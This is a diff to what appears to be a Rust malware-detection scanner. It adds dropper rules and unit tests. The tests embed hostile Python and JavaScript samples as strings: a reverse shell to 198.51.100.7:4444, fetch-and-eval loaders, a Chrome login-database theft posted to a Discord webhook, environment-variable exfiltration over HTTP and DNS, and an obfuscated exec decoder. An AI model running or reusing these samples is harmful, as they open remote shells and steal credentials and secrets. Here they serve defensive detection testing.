@@ -311,6 +311,16 @@ pub fn assess(s: &FileSignals, lang: Lang) -> Assessment<'_> {
         || (shell && s.has(Kind::Download) && s.has(Kind::Chmod))
     {
         a.dropper = of(&[Kind::Download, Kind::Network, Kind::Chmod, Kind::Subprocess]);
+    } else if s.together(&[
+        &[Kind::HardcodedIp],
+        &[Kind::Network, Kind::NetworkSend],
+        &[Kind::Subprocess],
+    ]) {
+        // A socket to a literal address and a shell: a remote shell.
+        a.dropper = of(&[Kind::HardcodedIp, Kind::Network, Kind::Subprocess]);
+    } else if s.same_scope(&[&[Kind::Network, Kind::Download], &[Kind::Exec]]) {
+        // Code fetched and evaluated in one function.
+        a.dropper = of(&[Kind::Network, Kind::Download, Kind::Exec]);
     } else if s.has(Kind::SecondRuntime) && (shell || s.any(&[Kind::Subprocess, Kind::Download])) {
         a.dropper = of(&[Kind::SecondRuntime, Kind::Download, Kind::Subprocess]);
     }
@@ -351,5 +361,91 @@ pub fn grade(ctx: &FileCtx, own: &[&Signal]) -> Severity {
         Severity::High
     } else {
         Severity::Medium
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::analyze::behavior::{javascript, python};
+
+    fn py(src: &str) -> Vec<&'static str> {
+        let s = python::analyze(src.as_bytes()).unwrap();
+        assess(&s, Lang::Python)
+            .categories()
+            .iter()
+            .map(|c| c.0)
+            .collect()
+    }
+
+    fn js(src: &str) -> Vec<&'static str> {
+        let s = javascript::analyze(src.as_bytes()).unwrap();
+        assess(&s, Lang::JavaScript)
+            .categories()
+            .iter()
+            .map(|c| c.0)
+            .collect()
+    }
+
+    #[test]
+    fn reverse_shell_is_a_dropper() {
+        let c = py(
+            "import socket, subprocess, os\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
+        );
+        assert!(c.contains(&"dropper"), "{c:?}");
+    }
+
+    #[test]
+    fn fetched_code_evaluated_in_a_callback() {
+        let c = js(
+            "const https = require('https');\nhttps.get('https://x.invalid/p.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); });\n",
+        );
+        assert!(c.contains(&"dropper"), "{c:?}");
+        let c = py(
+            "import urllib.request\ndef run():\n    code = urllib.request.urlopen('https://x.invalid/p').read()\n    exec(code)\n",
+        );
+        assert!(c.contains(&"dropper"), "{c:?}");
+    }
+
+    #[test]
+    fn browser_store_sent_to_a_webhook() {
+        let c = py(
+            "import os, sqlite3, requests\ndef go():\n    db = os.path.join(os.environ['LOCALAPPDATA'], 'Google/Chrome/User Data/Default/Login Data')\n    rows = sqlite3.connect(db).execute('select 1').fetchall()\n    requests.post('https://discord.com/api/webhooks/1/x', json={'r': rows})\n",
+        );
+        assert!(
+            c.contains(&"exfiltration") && c.contains(&"credential access"),
+            "{c:?}"
+        );
+    }
+
+    #[test]
+    fn environment_posted_whole() {
+        let c =
+            py("import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))\n");
+        assert!(c.contains(&"exfiltration"), "{c:?}");
+        let c = js(
+            "const dns = require('dns');\ndns.lookup(Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60) + '.x.invalid', () => {});\n",
+        );
+        assert!(c.contains(&"exfiltration"), "{c:?}");
+    }
+
+    #[test]
+    fn lambda_wrapped_decoder_is_obfuscation() {
+        let c = py(
+            "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'=Aa'))\n",
+        );
+        assert!(c.contains(&"obfuscated code"), "{c:?}");
+    }
+
+    #[test]
+    fn ordinary_library_code_has_no_category() {
+        let c = py(
+            "import requests, subprocess\ndef fetch(url):\n    return requests.get(url).json()\ndef version():\n    return subprocess.check_output(['git', '--version'])\n",
+        );
+        assert!(c.is_empty(), "{c:?}");
+        let c = js(
+            "const fs = require('fs');\nmodule.exports = (p) => JSON.parse(fs.readFileSync(p, 'utf8'));\nfetch('/api').then(r => r.json());\n",
+        );
+        assert!(c.is_empty(), "{c:?}");
     }
 }
